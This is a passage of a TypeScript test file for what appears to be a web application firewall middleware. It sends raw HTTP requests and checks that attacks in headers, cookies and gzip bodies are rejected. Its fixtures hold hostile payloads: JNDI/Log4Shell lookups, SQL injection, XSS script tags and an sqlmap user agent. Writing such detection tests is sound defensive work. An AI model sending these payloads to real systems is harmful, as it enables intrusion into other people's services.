    socket.end(`${head}\r\nhost: 127.0.0.1${length}\r\nconnection: close\r\n\r\n${body}`)
    let text = ''
    for await (const chunk of socket) text += chunk
    return Number(text.slice(9, 12))
  }

  it('lets a clean JSON POST through without building the request’s Headers', async () => {
    const post = 'POST /c HTTP/1.1\r\nContent-Type: application/json\r\nX-Note: hello'
    // The first request of node-server's request class is the probe (it builds them).
    expect(await send(post, '[1,2]')).toBe(200)
    seen.built = []
    for (let i = 0; i < 3; i++) expect(await send(post, '[1,2]')).toBe(200)
    expect(decision()).toMatchObject({ outcome: 'allow' })
    expect(seen.built).toEqual([false, false, false])
  })

  it.each([
    ['a header', 'X-Note: hi', 'java', 'header:x-note', `X-Note: https://x/${JNDI}ldap://e/a}`],
    ['the user agent', 'User-Agent: sqlmap/1.7', 'scanner', 'header:user-agent', ''],
    // Copies of one name, in any case, are joined: the attack is in the second.
    ['a repeated header', 'X-Dup: fine', 'java', 'header:x-dup', `x-DUP: \${jndi:ldap://e/a}`],
    // Walked by name, as Headers sorts them: a-first before z-last whatever the sending order.
    ['two headers', "Z-Last: ' OR 1=1--", 'xss', 'header:a-first', 'A-First: <script>x</script>'],
    // The cookies after the other headers.
    ['the cookies', 'Cookie: q=%3Cscript%3Ealert(1)', 'java', 'header:x-n', `X-N: \${jndi:x}`],
    ['a cookie alone', 'Cookie: a=1', 'xss', 'cookie:q', 'cookie: q=%3Cscript%3E'],
  ])('refuses an attack in %s as app.request does', async (_, one, category, location, two) => {
    const head = ['GET /p HTTP/1.1', one, two].filter((l) => l !== '').join('\r\n')
    for (let i = 0; i < 2; i++) {
      expect(await send(head)).toBe(403)
      expect(decision()).toMatchObject({ outcome: 'reject', category, location })
    }
  })

  it('decodes a gzip body read off the socket, and lets a clean one through', async () => {
    const post = async (text: string) =>
      (
        await fetch(`${served.base}/c`, {
          method: 'POST',
          body: await compressed(text, 'gzip'),
          headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
        })
      ).status
    expect(await post('["<script>alert(1)</script>"]')).toBe(403)
    expect(decision()).toMatchObject({ category: 'xss', location: 'body:/0' })
    // The handler parses the bytes as sent (gzip is no JSON) and refuses them: shield let them by.
    expect(await post('["hello"]')).toBe(400)
    expect(decision()).toMatchObject({ outcome: 'allow', cause: 'body decoded from gzip' })
  })

  it('sees a header a middleware set before it (the request’s Headers are read then)', async () => {
    expect(await send('GET /edited/x HTTP/1.1')).toBe(403)
    expect(decision()).toMatchObject({ category: 'java', location: 'header:x-added' })
  })

  it('does not read Authorization', async () => {
    expect(await send("GET /p HTTP/1.1\r\nAuthorization: Bearer ' OR 1=1--")).toBe(200)
  })
})
